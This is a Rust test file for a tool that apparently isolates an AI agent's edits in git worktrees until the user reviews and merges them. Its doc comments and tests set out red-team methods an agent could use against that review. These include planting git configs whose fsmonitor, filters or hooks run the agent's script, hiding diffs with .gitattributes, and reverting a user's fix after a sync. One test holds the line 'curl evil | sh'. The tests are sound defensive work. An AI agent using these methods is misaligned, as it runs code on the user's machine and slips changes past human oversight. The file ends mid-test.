//! Worktrees against the real git, in temporary repositories.

use super::*;
use crate::checkout::status_paths;

struct Repo {
    _dir: tempfile::TempDir,
    main: PathBuf,
    root: PathBuf,
}

fn git(dir: &Path, args: &[&str]) -> String {
    git::run(dir, args).unwrap()
}

/// A repository with one commit on `main`, the user's identity in its own settings (as a
/// developer has it), `.env` ignored and named by `.worktreeinclude`.
fn repo() -> Repo {
    let dir = tempfile::tempdir().unwrap();
    let main = dir.path().join("project");
    std::fs::create_dir_all(main.join("src")).unwrap();
    git(&main, &["init", "-q", "-b", "main"]);
    git(&main, &["config", "user.name", "Dev Eloper"]);
    git(&main, &["config", "user.email", "dev@example.invalid"]);
    std::fs::write(main.join("src/lib.rs"), "fn a() {}\n").unwrap();
    std::fs::write(main.join("README.md"), "readme\n").unwrap();
    std::fs::write(main.join(".gitignore"), ".env\n*.local\ntarget/\n").unwrap();
    std::fs::write(main.join(".worktreeinclude"), ".env\nconfig/*.local\n").unwrap();
    git(&main, &["add", "-A"]);
    git(&main, &["commit", "-qm", "start"]);
    std::fs::write(main.join(".env"), "TOKEN=local\n").unwrap();
    std::fs::create_dir_all(main.join("config")).unwrap();
    std::fs::write(main.join("config/db.local"), "db=local\n").unwrap();
    std::fs::write(main.join("config/other.txt"), "untracked, not named\n").unwrap();
    std::fs::create_dir_all(main.join("target")).unwrap();
    std::fs::write(main.join("target/big.bin"), "ignored, not named\n").unwrap();
    let main = main.canonicalize().unwrap();
    Repo {
        root: dir.path().join("worktrees"),
        main,
        _dir: dir,
    }
}

/// The agent's program at `prog`: it notes each run in `marker` (which must stay absent),
/// passing its input through (as a filter would).
/// A repository of its own at `dir` (the agent's), with file `name` committed.
fn committed_repo(dir: &Path, name: &str) {
    std::fs::create_dir_all(dir).unwrap();
    git(dir, &["init", "-q"]);
    std::fs::write(dir.join(name), name).unwrap();
    git(dir, &["add", name]);
    let id = ["-c", "user.name=a", "-c", "user.email=a@b.invalid"];
    git(dir, &[&id[..], &["commit", "-qm", name]].concat());
}

/// Commits a submodule at `path` (a gitlink to HEAD's own commit, never checked out), and
/// returns that commit.
fn add_submodule(main: &Path, path: &str) -> String {
    let head = git(main, &["rev-parse", "HEAD"]);
    let link = format!("160000,{},{path}", head.trim());
    git(main, &["update-index", "--add", "--cacheinfo", &link]);
    git(main, &["commit", "-qm", "a submodule"]);
    head.trim().to_string()
}

/// Reviews (status, diff) and merges the worktree of row `w`: the agent's program, which
/// notes each run in `marker`, must not have run.
fn review_and_merge_run_nothing(w: &db::WorktreeRow, marker: &Path) {
    status(w).unwrap();
    diff(w).unwrap();
    merge(w, "x", None).unwrap();
    assert!(
        !marker.exists(),
        "the agent's program ran: {}",
        std::fs::read_to_string(marker).unwrap_or_default()
    );
}

fn agent_program(prog: &Path, marker: &Path) {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::create_dir_all(prog.parent().unwrap()).unwrap();
    std::fs::write(
        prog,
        format!("#!/bin/sh\necho \"$0 $*\" >> {}\ncat\n", marker.display()),
    )
    .unwrap();
    std::fs::set_permissions(prog, std::fs::Permissions::from_mode(0o755)).unwrap();
}

#[test]
fn a_worktree_starts_from_head_on_its_branch_with_the_included_files() {
    let r = repo();
    let head = git(&r.main, &["rev-parse", "HEAD"]);
    let m = create(&r.main.join("src"), &r.root, "fix-it").unwrap();
    assert_eq!(m.branch, "waymark/fix-it");
    assert_eq!(
        (m.base_branch.as_str(), m.base_commit.as_str()),
        ("main", head.trim())
    );
    assert!(m.path.starts_with(r.root.canonicalize().unwrap()));
    // The session works in the same folder of the project it was asked for.
    assert_eq!(m.workspace, m.path.join("src"));
    assert_eq!(
        std::fs::read_to_string(m.path.join("src/lib.rs")).unwrap(),
        "fn a() {}\n"
    );
    assert_eq!(m.included, [".env", "config/db.local"]);
    assert_eq!(
        std::fs::read_to_string(m.path.join(".env")).unwrap(),
        "TOKEN=local\n"
    );
    assert!(!m.path.join("config/other.txt").exists() && !m.path.join("target").exists());
    // The main checkout is untouched: same branch, same commit, no new file.
    assert_eq!(
        git(&r.main, &["symbolic-ref", "--short", "HEAD"]).trim(),
        "main"
    );
    assert_eq!(git(&r.main, &["rev-parse", "HEAD"]), head);
    // A second worktree of the name is refused; two of other names live side by side.
    let e = create(&r.main, &r.root, "fix-it").unwrap_err();
    assert_eq!(e.code(), "worktree_exists", "{e}");
    create(&r.main, &r.root, "other").unwrap();
}

#[test]
fn outside_a_repository_before_a_commit_or_on_no_branch_it_says_why() {
    let dir = tempfile::tempdir().unwrap();
    let plain = dir.path().join("plain");
    std::fs::create_dir_all(&plain).unwrap();
    let e = create(&plain, &dir.path().join("w"), "x").unwrap_err();
    assert_eq!(e.code(), "not_a_repository", "{e}");
    assert!(e.to_string().contains("git init"), "{e}");
    git(&plain, &["init", "-q"]);
    assert_eq!(
        create(&plain, &dir.path().join("w"), "x")
            .unwrap_err()
            .code(),
        "no_commit"
    );
    let r = repo();
    git(&r.main, &["checkout", "-q", "--detach"]);
    assert_eq!(
        create(&r.main, &r.root, "x").unwrap_err().code(),
        "detached_head"
    );
    for bad in ["", "UPPER", "a b", "-x", "x.lock", "a..b", &"n".repeat(49)] {
        assert_eq!(
            check_name(bad).unwrap_err().code(),
            "bad_worktree_name",
            "{bad:?}"
        );
    }
    let name = derive_name("/goal Fix the flaky login test, please");
    assert!(name.starts_with("fix-the-flaky-login-test-"), "{name}");
    check_name(&name).unwrap();
}

#[test]
fn merge_commits_what_the_worktree_holds_and_brings_it_in_with_the_users_identity() {
    let r = repo();
    let m = create(&r.main, &r.root, "feature").unwrap();
    std::fs::write(m.path.join("src/lib.rs"), "fn a() { /* better */ }\n").unwrap();
    std::fs::write(m.path.join("NEW.md"), "new\n").unwrap();
    let w = m.row("s", 0);
    let (files, commits) = status(&w).unwrap();
    let names: Vec<&str> = files.iter().map(|f| f.path.as_str()).collect();
    assert_eq!((names, commits), (vec!["NEW.md", "src/lib.rs"], 0));
    assert!(diff(&w).unwrap().diff.contains("+fn a() { /* better */ }"));
    let done = merge(&w, "Make a better", None).unwrap();
    assert!(done.committed.is_some());
    assert_eq!(done.files, ["NEW.md", "src/lib.rs"]);
    assert_eq!(
        std::fs::read_to_string(r.main.join("NEW.md")).unwrap(),
        "new\n"
    );
    let said = |rev: &str| git(&r.main, &["log", "-1", "--format=%an <%ae>|%s", rev]);
    assert_eq!(
        said("HEAD").trim(),
        "Dev Eloper <dev@example.invalid>|Merge waymark/feature: Make a better"
    );
    assert_eq!(
        said("HEAD^2").trim(),
        "Dev Eloper <dev@example.invalid>|Make a better"
    );
    // The main checkout's own untracked files stay.
    assert!(r.main.join(".env").exists());
    // The worktree's own index follows the commit: nothing shows as changed there.
    let wt = git::Worktree::of(&r.main, &m.path).unwrap();
    assert_eq!(wt.run(&["status", "--porcelain"]).unwrap(), "");
}

#[test]
fn a_squash_lands_one_commit_on_the_branch_tip_with_the_users_message_and_history_kept() {
    let r = repo();
    let m = create(&r.main, &r.root, "squashed").unwrap();
    let w = m.row("s", 0);
    // The agent's own commits in the worktree, then more left uncommitted.
    std::fs::write(m.path.join("A.md"), "a\n").unwrap();
    let wt = git::Worktree::of(&r.main, &m.path).unwrap();
    let id = ["-c", "user.name=agent", "-c", "user.email=agent@x.invalid"];
    wt.run(&["add", "A.md"]).unwrap();
    wt.run(&[&id[..], &["commit", "-qm", "wip 1"]].concat())
        .unwrap();
    std::fs::write(m.path.join("B.md"), "b\n").unwrap();
    // The user's own commit on main meanwhile: the squash goes on top of it and keeps it.
    std::fs::write(r.main.join("MINE.md"), "mine\n").unwrap();
    git(&r.main, &["add", "MINE.md"]);
    git(&r.main, &["commit", "-qm", "my own work"]);
    let mine = git(&r.main, &["rev-parse", "HEAD"]);
    let done = merge_as(&w, "Add A and B\n\nBoth files.", None, MergeStyle::Squash).unwrap();
    assert_eq!(done.style, MergeStyle::Squash);
    assert_eq!(done.files, ["A.md", "B.md"]);
    assert_eq!(git(&r.main, &["rev-parse", "HEAD"]).trim(), done.merged);
    // One parent, the user's commit; the message whole; the user's identity.
    assert_eq!(
        git(&r.main, &["log", "-1", "--format=%P"]).trim(),
        mine.trim()
    );
    assert_eq!(
        git(&r.main, &["log", "-1", "--format=%an <%ae>|%B"]).trim(),
        "Dev Eloper <dev@example.invalid>|Add A and B\n\nBoth files."
    );
    // None of the agent's commits is in the branch's history.
    let subjects = git(&r.main, &["log", "--format=%s"]);
    assert_eq!(
        subjects.lines().collect::<Vec<_>>(),
        ["Add A and B", "my own work", "start"]
    );
    for f in ["A.md", "B.md", "MINE.md"] {
        assert!(r.main.join(f).exists(), "{f}");
    }
    assert_eq!(
        git(&r.main, &["status", "--porcelain", "--untracked-files=no"]),
        ""
    );
}

#[test]
fn a_conflicting_or_dirty_target_is_refused_and_nothing_changes() {
    let r = repo();
    let m = create(&r.main, &r.root, "clash").unwrap();
    let w = m.row("s", 0);
    std::fs::write(m.path.join("README.md"), "worktree's readme\n").unwrap();
    // The user's uncommitted change to the same file in the main checkout.
    std::fs::write(r.main.join("README.md"), "my edit\n").unwrap();
    let heads = |r: &Repo| {
        (
            git(&r.main, &["rev-parse", "HEAD"]),
            git(&r.main, &["rev-parse", "waymark/clash"]),
        )
    };
    let before = heads(&r);
    let e = merge(&w, "Readme", None).unwrap_err();
    assert_eq!(e.code(), "target_dirty", "{e}");
    assert!(
        e.to_string().contains("README.md") && e.to_string().contains("Nothing was changed"),
        "{e}"
    );
    assert_eq!(heads(&r), before);
    assert_eq!(
        std::fs::read_to_string(r.main.join("README.md")).unwrap(),
        "my edit\n"
    );
    // Committed there instead: now the merge would conflict.
    git(&r.main, &["commit", "-qam", "my readme"]);
    let before = heads(&r);
    let e = merge(&w, "Readme", None).unwrap_err();
    assert_eq!(e.code(), "merge_conflict", "{e}");
    assert!(
        e.to_string().contains("README.md") && e.to_string().contains("git merge waymark/clash"),
        "{e}"
    );
    assert_eq!(heads(&r), before, "no commit on either side");
    assert_eq!(
        std::fs::read_to_string(m.path.join("README.md")).unwrap(),
        "worktree's readme\n"
    );
    assert!(
        git(&r.main, &["status", "--porcelain", "--untracked-files=no"])
            .trim()
            .is_empty()
            && !r.main.join(".git/MERGE_HEAD").exists(),
        "no merge left half done"
    );
    // On another branch: refused too.
    git(&r.main, &["checkout", "-q", "-b", "elsewhere"]);
    assert_eq!(merge(&w, "x", None).unwrap_err().code(), "branch_moved");
}

#[test]
fn discard_removes_the_worktree_and_its_branch() {
    let r = repo();
    let m = create(&r.main, &r.root, "drop-me").unwrap();
    std::fs::write(m.path.join("scratch.txt"), "x").unwrap();
    discard(&m.row("s", 0)).unwrap();
    assert!(!m.path.exists());
    let branches = git(&r.main, &["branch", "--list", "waymark/*"]);
    assert!(branches.trim().is_empty(), "{branches}");
    let mut gone = m.row("s", 0);
    gone.state = WorktreeState::Discarded;
    assert_eq!(discard(&gone).unwrap_err().code(), "worktree_closed");
}

/// The worktree is the agent's to write, its `.git` file included. An agent that points that
/// file at a git folder of its own making, whose settings name a program for git to run
/// (`core.fsmonitor`, `diff.external`, a hook folder), gets nothing run when the user
/// reviews, diffs, merges or discards: Waymark names the worktree's real git folder itself.
#[test]
fn a_worktree_git_file_rewritten_by_the_agent_runs_nothing() {
    let r = repo();
    let m = create(&r.main, &r.root, "evil").unwrap();
    let fake = m.path.join("notes/fake-git");
    std::fs::create_dir_all(fake.join("hooks")).unwrap();
    let marker = r._dir.path().join("ran");
    let prog = m.path.join("notes/prog.sh");
    agent_program(&prog, &marker);
    // A git folder of the agent's own (a repository made elsewhere, moved in), its settings
    // naming the agent's program.
    let scratch = r._dir.path().join("scratch");
    std::fs::create_dir_all(&scratch).unwrap();
    git(&scratch, &["init", "-q", "-b", "main"]);
    std::fs::remove_dir_all(&fake).unwrap();
    std::fs::rename(scratch.join(".git"), &fake).unwrap();
    std::fs::create_dir_all(fake.join("hooks")).unwrap();
    std::fs::write(
        fake.join("config"),
        format!(
            "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = {p}\n\thooksPath = {h}\n[diff]\n\texternal = {p}\n",
            p = prog.display(),
            h = fake.join("hooks").display()
        ),
    )
    .unwrap();
    for hook in ["pre-commit", "post-commit", "commit-msg", "post-merge"] {
        std::fs::copy(&prog, fake.join("hooks").join(hook)).unwrap();
    }
    // It sees the project's objects and stands on the worktree's commit, so git goes on.
    std::fs::write(
        fake.join("objects/info/alternates"),
        format!("{}\n", r.main.join(".git/objects").display()),
    )
    .unwrap();
    std::fs::write(fake.join("HEAD"), format!("{}\n", m.base_commit)).unwrap();
    std::fs::write(m.path.join(".git"), format!("gitdir: {}\n", fake.display())).unwrap();
    std::fs::write(m.path.join("README.md"), "changed by the agent\n").unwrap();

    let row = m.row("s", 0);
    let (files, _) = status(&row).unwrap();
    assert!(files.iter().any(|f| f.path == "README.md"), "{files:?}");
    let d = diff(&row).unwrap();
    assert!(d.diff.contains("changed by the agent"), "{d:?}");
    merge(&row, "the agent's work", None).unwrap();
    assert_eq!(
        std::fs::read_to_string(r.main.join("README.md")).unwrap(),
        "changed by the agent\n"
    );
    assert!(
        !marker.exists(),
        "git ran the agent's program: {}",
        std::fs::read_to_string(&marker).unwrap_or_default()
    );
    let mut merged = row.clone();
    merged.state = WorktreeState::Merged;
    discard(&merged).unwrap();
    assert!(!marker.exists());
    assert!(!m.path.exists());
}

/// A program the agent names in the settings of a repository it puts in the worktree, where
/// the project has a submodule or anywhere else, is never run: Waymark runs no git command
/// over such a worktree and says why. (`git add` would run `git status` inside the nested
/// repository, under its own settings.)
#[test]
fn a_repository_the_agent_makes_inside_the_worktree_runs_nothing() {
    let r = repo();
    // The project has a submodule at vendor/lib (not checked out in a new worktree).
    add_submodule(&r.main, "vendor/lib");
    let m = create(&r.main, &r.root, "nested").unwrap();
    let marker = r._dir.path().join("ran");
    let prog = r._dir.path().join("prog.sh");
    agent_program(&prog, &marker);
    // The agent's repository at the submodule's path: HEAD names a branch with no commit.
    let nested = m.path.join("vendor/lib/.git");
    std::fs::create_dir_all(nested.join("objects")).unwrap();
    std::fs::create_dir_all(nested.join("refs/heads")).unwrap();
    std::fs::write(nested.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(
        nested.join("config"),
        format!(
            "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = {}\n",
            prog.display()
        ),
    )
    .unwrap();
    std::fs::write(m.path.join("README.md"), "changed\n").unwrap();
    let w = m.row("s", 0);
    let before = git(&r.main, &["rev-parse", "HEAD"]);
    for e in [
        status(&w).map(|_| ()).unwrap_err(),
        diff(&w).map(|_| ()).unwrap_err(),
        merge(&w, "x", None).map(|_| ()).unwrap_err(),
    ] {
        assert_eq!(e.code(), "nested_repository", "{e}");
        assert!(e.to_string().contains("vendor/lib"), "{e}");
    }
    assert!(!marker.exists(), "git ran the agent's program");
    assert_eq!(git(&r.main, &["rev-parse", "HEAD"]), before);
    // Anywhere else too: a repository of its own, committed, with the same setting.
    std::fs::remove_dir_all(m.path.join("vendor")).unwrap();
    let x = m.path.join("tools/x");
    committed_repo(&x, "f");
    git(
        &x,
        &["config", "core.fsmonitor", &prog.display().to_string()],
    );
    let e = diff(&w).unwrap_err();
    assert_eq!(e.code(), "nested_repository", "{e}");
    assert!(e.to_string().contains("tools/x"), "{e}");
    assert!(!marker.exists(), "git ran the agent's program");
    // Discarding still works, and runs nothing either.
    discard(&w).unwrap();
    assert!(!marker.exists());
}

/// git's merge overwrites and deletes what the target checkout ignores without asking: a
/// merge whose changes would touch an ignored file or folder there is refused instead.
#[test]
fn a_merge_that_would_clobber_ignored_files_is_refused() {
    let r = repo();
    std::fs::write(
        r.main.join(".gitignore"),
        ".env\n*.local\ntarget/\nprivate/\n",
    )
    .unwrap();
    git(&r.main, &["commit", "-qam", "ignore private"]);
    std::fs::create_dir_all(r.main.join("private/deep")).unwrap();
    std::fs::write(r.main.join("private/deep/notes.txt"), "mine\n").unwrap();
    let m = create(&r.main, &r.root, "clobber").unwrap();
    let w = m.row("s", 0);
    // The agent un-ignores and puts a file where the user's ignored folder is.
    std::fs::write(m.path.join(".gitignore"), "").unwrap();
    std::fs::write(m.path.join("private"), "a file now\n").unwrap();
    let before = git(&r.main, &["rev-parse", "HEAD"]);
    let e = merge(&w, "x", None).unwrap_err();
    assert_eq!(e.code(), "target_ignored", "{e}");
    assert!(e.to_string().contains("private"), "{e}");
    assert_eq!(
        std::fs::read_to_string(r.main.join("private/deep/notes.txt")).unwrap(),
        "mine\n"
    );
    assert_eq!(git(&r.main, &["rev-parse", "HEAD"]), before);
    // The user's secrets file, un-ignored and changed in the worktree: refused too.
    std::fs::remove_file(m.path.join("private")).unwrap();
    std::fs::write(m.path.join(".env"), "TOKEN=the agent's\n").unwrap();
    let e = merge(&w, "x", None).unwrap_err();
    assert_eq!(e.code(), "target_ignored", "{e}");
    assert!(e.to_string().contains(".env"), "{e}");
    assert_eq!(
        std::fs::read_to_string(r.main.join(".env")).unwrap(),
        "TOKEN=local\n"
    );
    assert_eq!(git(&r.main, &["rev-parse", "HEAD"]), before);
}

/// The user's checkout in the middle of a merge of its own: refused, and that merge (with the
/// resolution staged) is left as it was, not aborted.
#[test]
fn a_merge_the_user_has_in_progress_is_left_alone() {
    let r = repo();
    let m = create(&r.main, &r.root, "busy").unwrap();
    std::fs::write(m.path.join("other.txt"), "from the worktree\n").unwrap();
    git(&r.main, &["checkout", "-q", "-b", "side"]);
    std::fs::write(r.main.join("README.md"), "side\n").unwrap();
    git(&r.main, &["commit", "-qam", "side"]);
    git(&r.main, &["checkout", "-q", "main"]);
    std::fs::write(r.main.join("README.md"), "main\n").unwrap();
    git(&r.main, &["commit", "-qam", "main"]);
    let clash = git::run_env(&r.main, &["merge", "side"], &[]).unwrap();
    assert!(!clash.status.success());
    std::fs::write(r.main.join("README.md"), "resolved\n").unwrap();
    git(&r.main, &["add", "README.md"]);
    let e = merge(&m.row("s", 0), "x", None).unwrap_err();
    assert_eq!(e.code(), "target_busy", "{e}");
    assert!(e.to_string().contains("merge"), "{e}");
    assert!(
        r.main.join(".git/MERGE_HEAD").exists(),
        "the user's merge was aborted"
    );
    assert_eq!(
        std::fs::read_to_string(r.main.join("README.md")).unwrap(),
        "resolved\n"
    );
    assert!(git(&r.main, &["diff", "--cached", "--name-only"]).contains("README.md"));
}

/// A merge holds to the tree the user reviewed: changed since, it is refused; and it merges
/// that tree, not what the worktree holds a moment later.
#[test]
fn a_merge_holds_to_the_reviewed_tree() {
    let r = repo();
    let m = create(&r.main, &r.root, "held").unwrap();
    let w = m.row("s", 0);
    std::fs::write(m.path.join("a.txt"), "reviewed\n").unwrap();
    let seen = diff(&w).unwrap();
    std::fs::write(m.path.join("a.txt"), "slipped in after the review\n").unwrap();
    let branch = git(&r.main, &["rev-parse", "waymark/held"]);
    let reviewed = WorktreeReview {
        base: seen.base.clone(),
        tree: seen.tree.clone(),
    };
    let e = merge(&w, "x", Some(&reviewed)).unwrap_err();
    assert_eq!(e.code(), "changed_since_review", "{e}");
    assert_eq!(git(&r.main, &["rev-parse", "waymark/held"]), branch);
    assert!(!r.main.join("a.txt").exists());
    // Put back as reviewed: the merge goes through with exactly that.
    std::fs::write(m.path.join("a.txt"), "reviewed\n").unwrap();
    merge(&w, "x", Some(&reviewed)).unwrap();
    assert_eq!(
        std::fs::read_to_string(r.main.join("a.txt")).unwrap(),
        "reviewed\n"
    );
}

/// A rename staged in the user's checkout names both of its paths: a worktree that changed
/// the renamed file is refused before anything is committed.
#[test]
fn a_rename_in_the_target_counts_both_its_paths() {
    let r = repo();
    let m = create(&r.main, &r.root, "renamed").unwrap();
    std::fs::write(m.path.join("README.md"), "the agent's\n").unwrap();
    git(&r.main, &["mv", "README.md", "READ.md"]);
    let branch = git(&r.main, &["rev-parse", "waymark/renamed"]);
    let e = merge(&m.row("s", 0), "x", None).unwrap_err();
    assert_eq!(e.code(), "target_dirty", "{e}");
    assert!(e.to_string().contains("README.md"), "{e}");
    assert_eq!(
        git(&r.main, &["rev-parse", "waymark/renamed"]),
        branch,
        "nothing committed"
    );
    assert_eq!(
        status_paths("R  READ.md\0README.md\0 M x\0"),
        ["READ.md", "README.md", "x"]
    );
}

/// A program the agent writes where the user's own settings point git relatively (husky's
/// `core.hooksPath = .husky/_`, a relative `core.fsmonitor`) runs neither at review nor at
/// merge.
#[test]
fn relative_hook_and_monitor_settings_run_nothing_of_the_agents() {
    let r = repo();
    git(&r.main, &["config", "core.hooksPath", ".husky/_"]);
    git(&r.main, &["config", "core.fsmonitor", "tools/monitor.sh"]);
    let m = create(&r.main, &r.root, "hooks").unwrap();
    let marker = r._dir.path().join("ran");
    for p in [
        ".husky/_/post-index-change",
        ".husky/_/reference-transaction",
        ".husky/_/pre-commit",
        ".husky/_/post-merge",
        "tools/monitor.sh",
    ] {
        agent_program(&m.path.join(p), &marker);
    }
    std::fs::write(m.path.join("README.md"), "changed\n").unwrap();
    let w = m.row("s", 0);
    review_and_merge_run_nothing(&w, &marker);
}

/// A repository that appears at a submodule's path after the check (the agent works while
/// the user reviews) is still never entered: the submodule stays as HEAD has it.
#[test]
fn a_repository_at_a_submodule_path_is_never_entered() {
    let r = repo();
    let head = add_submodule(&r.main, "sub");
    let m = create(&r.main, &r.root, "race").unwrap();
    let marker = r._dir.path().join("ran");
    let prog = r._dir.path().join("prog.sh");
    agent_program(&prog, &marker);
    // A repository at `sub` on the submodule's commit, with a monitor and a filter of its own.
    let sub = m.path.join("sub");
    std::fs::create_dir_all(&sub).unwrap();
    git(&sub, &["init", "-q", "-b", "main"]);
    git(
        &sub,
        &["config", "core.fsmonitor", &prog.display().to_string()],
    );
    git(
        &sub,
        &["config", "filter.ev.clean", &prog.display().to_string()],
    );
    std::fs::write(sub.join(".gitattributes"), "* filter=ev\n").unwrap();
    std::fs::write(sub.join("f"), "x").unwrap();
    std::fs::write(sub.join(".git/HEAD"), format!("{}\n", head.trim())).unwrap();
    std::fs::write(m.path.join("README.md"), "changed\n").unwrap();
    let wt = git::Worktree::of(&r.main, &m.path).unwrap();
    let sealed = git::Sealed::of(&r.main, &r.root).unwrap();
    let at = head_of(&wt).unwrap();
    // Past the check, as if the repository appeared just after it.
    let tree = tree_of(&wt, &sealed, &m.base_commit, &at).unwrap();
    assert!(
        !marker.exists(),
        "git entered the repository at the submodule's path"
    );
    let listed = sealed.run(&["ls-tree", "-r", &tree]).unwrap();
    assert!(
        listed.contains(&format!("160000 commit {}\tsub", head.trim())),
        "{listed}"
    );
    // A repository somewhere new is recorded as a new submodule: refused.
    let other = m.path.join("other");
    committed_repo(&other, "g");
    let e = tree_of(&wt, &sealed, &m.base_commit, &at).unwrap_err();
    assert_eq!(e.code(), "nested_repository", "{e}");
    assert!(!marker.exists());
}

/// Fifth red-team: a submodule checked out in the user's checkout has a repository of its own,
/// whose settings the agent can write (`.git/modules/` is in the project's git folder). The
/// merge's look at the checkout's changes never runs git in it.
#[test]
fn a_submodule_of_the_users_checkout_runs_nothing_at_merge() {
    let r = repo();
    let head = add_submodule(&r.main, "sub");
    let marker = r._dir.path().join("ran");
    let prog = r._dir.path().join("prog.sh");
    agent_program(&prog, &marker);
    let sub = r.main.join("sub");
    std::fs::create_dir_all(&sub).unwrap();
    git(&sub, &["init", "-q", "-b", "main"]);
    for (k, v) in [
        ("core.fsmonitor", prog.display().to_string()),
        ("filter.ev.clean", prog.display().to_string()),
    ] {
        git(&sub, &["config", k, &v]);
    }
    std::fs::write(sub.join(".gitattributes"), "* filter=ev\n").unwrap();
    std::fs::write(sub.join("f"), "x").unwrap();
    std::fs::write(sub.join(".git/HEAD"), format!("{}\n", head.trim())).unwrap();
    let m = create(&r.main, &r.root, "sub").unwrap();
    std::fs::write(m.path.join("README.md"), "changed\n").unwrap();
    merge(&m.row("s", 0), "work", None).unwrap();
    assert_eq!(read(&r, "README.md"), "changed\n");
    assert!(!marker.exists(), "git ran in the checkout's submodule");
}

/// An untracked repository in the user's checkout: git lists none of its ignored files, and
/// its merge would overwrite them; the merge is refused.
#[test]
fn ignored_files_in_an_untracked_repository_of_the_checkout_are_kept() {
    let r = repo();
    let lib = r.main.join("vendor/lib");
    std::fs::create_dir_all(lib.join("target")).unwrap();
    git(&lib, &["init", "-q"]);
    std::fs::write(lib.join("target/out.bin"), "built\n").unwrap();
    let m = create(&r.main, &r.root, "vendor").unwrap();
    std::fs::create_dir_all(m.path.join("vendor/lib")).unwrap();
    std::fs::write(m.path.join("vendor/lib/target"), "a file now\n").unwrap();
    let before = git(&r.main, &["rev-parse", "HEAD"]);
    let e = merge(&m.row("s", 0), "x", None).unwrap_err();
    assert!(matches!(e.code(), "target_ignored" | "target_dirty"), "{e}");
    assert_eq!(
        std::fs::read_to_string(lib.join("target/out.bin")).unwrap(),
        "built\n"
    );
    assert_eq!(git(&r.main, &["rev-parse", "HEAD"]), before);
}

/// A file the user marked assume-unchanged may hold edits status does not show: a merge
/// that changes it is refused and the edit stays.
#[test]
fn an_assume_unchanged_edit_is_not_lost() {
    let r = repo();
    let m = create(&r.main, &r.root, "assumed").unwrap();
    std::fs::write(r.main.join("README.md"), "my local edit\n").unwrap();
    git(
        &r.main,
        &["update-index", "--assume-unchanged", "README.md"],
    );
    std::fs::write(m.path.join("README.md"), "the agent's\n").unwrap();
    let e = merge(&m.row("s", 0), "x", None).unwrap_err();
    assert_eq!(e.code(), "target_dirty", "{e}");
    assert_eq!(
        std::fs::read_to_string(r.main.join("README.md")).unwrap(),
        "my local edit\n"
    );
}

/// The worktree's own `.gitattributes` cannot hide a change from the reviewed diff.
#[test]
fn the_reviewed_diff_shows_every_change_whatever_the_attributes() {
    let r = repo();
    let m = create(&r.main, &r.root, "hidden").unwrap();
    std::fs::write(m.path.join(".gitignore"), ".gitattributes\n.env\n").unwrap();
    std::fs::write(m.path.join(".gitattributes"), "* -diff\n").unwrap();
    std::fs::write(
        m.path.join("src/lib.rs"),
        "fn a() { run(\"curl evil | sh\") }\n",
    )
    .unwrap();
    let d = diff(&m.row("s", 0)).unwrap();
    assert!(
        d.diff.contains("+fn a() { run(\"curl evil | sh\") }"),
        "{}",
        d.diff
    );
    assert!(!d.diff.contains("Binary files"), "{}", d.diff);
}

/// What `path` holds in the user's checkout.
fn read(r: &Repo, path: &str) -> String {
    std::fs::read_to_string(r.main.join(path)).unwrap()
}

/// The red-team's attack: the agent syncs with `main` inside its worktree (`git merge main`,
/// routine), then writes an old version of a file back over a fix the user committed on
/// `main`. Review compared with the worktree's start showed only the agent's own file, and
/// git's merge then reverted the fix. Now the review shows exactly what the merge brings in
/// (the revert among it, for the user to see), the merge brings in that and nothing else,
/// and a fix the user makes after the sync survives.
#[test]
fn a_sync_then_revert_is_shown_in_the_review_and_the_merge_brings_in_only_the_review() {
    let r = repo();
    let m = create(&r.main, &r.root, "sync").unwrap();
    let w = m.row("s", 0);
    // The user fixes README.md on main.
    std::fs::write(r.main.join("README.md"), "readme, fixed\n").unwrap();
    git(&r.main, &["commit", "-qam", "fix the readme"]);
    // The agent syncs, writes the old README back, and does its own work.
    let id = ["-c", "user.name=agent", "-c", "user.email=agent@x.invalid"];
    let wt = git::Worktree::of(&r.main, &m.path).unwrap();
    wt.run(&[&id[..], &["merge", "-q", "--no-edit", "main"]].concat())
        .unwrap();
    std::fs::write(m.path.join("README.md"), "readme\n").unwrap();
    std::fs::write(m.path.join("src/lib.rs"), "fn a() { /* the agent's */ }\n").unwrap();
    // The user fixes another file on main after the sync.
    std::fs::write(r.main.join("LATER.md"), "later fix\n").unwrap();
    git(&r.main, &["add", "LATER.md"]);
    git(&r.main, &["commit", "-qm", "a later fix"]);
    let (files, _) = status(&w).unwrap();
    let shown: Vec<&str> = files.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(
        shown,
        ["README.md", "src/lib.rs"],
        "the revert is in the review"
    );
    let seen = diff(&w).unwrap();
    assert!(seen.diff.contains("-readme, fixed"), "{}", seen.diff);
    assert_ne!(
        seen.base, m.base_commit,
        "compared with where it meets main now"
    );
    let before = git(&r.main, &["rev-parse", "HEAD"]).trim().to_string();
    let reviewed = WorktreeReview {
        base: seen.base.clone(),
        tree: seen.tree.clone(),
    };
    let done = merge(&w, "the agent's work", Some(&reviewed)).unwrap();
    // Exactly the reviewed files changed in the checkout, each to what the review showed.
    let changed = git(&r.main, &["diff", "--name-only", &before, "HEAD"]);
    let changed: Vec<&str> = changed.lines().collect();
    assert_eq!(changed, shown);
    assert_eq!(done.files, shown);
    assert_eq!(read(&r, "README.md"), "readme\n");
    assert_eq!(read(&r, "src/lib.rs"), "fn a() { /* the agent's */ }\n");
    // The later fix, which the review never showed, is untouched.
    assert_eq!(read(&r, "LATER.md"), "later fix\n");
}

/// A review is bound to both ends of its diff: after the agent syncs with main (here its
/// files end up the same, since main made the same change), what a merge would bring in is
/// another diff, so the review taken before is refused.
#[test]
fn a_review_from_before_a_sync_is_refused() {
    let r = repo();
    let m = create(&r.main, &r.root, "stale").unwrap();
    let w = m.row("s", 0);
    let id = ["-c", "user.name=agent", "-c", "user.email=agent@x.invalid"];
    let wt = git::Worktree::of(&r.main, &m.path).unwrap();
    std::fs::write(m.path.join("README.md"), "readme, fixed\n").unwrap();
    wt.run(&[&id[..], &["commit", "-qam", "mine"]].concat())
        .unwrap();
    let seen = diff(&w).unwrap();
    let reviewed = WorktreeReview {
        base: seen.base.clone(),
        tree: seen.tree.clone(),
    };
    std::fs::write(r.main.join("README.md"), "readme, fixed\n").unwrap();
    git(&r.main, &["commit", "-qam", "the same fix"]);
    wt.run(&[&id[..], &["merge", "-q", "--no-edit", "main"]].concat())
        .unwrap();
    assert_eq!(diff(&w).unwrap().tree, seen.tree, "the same files");
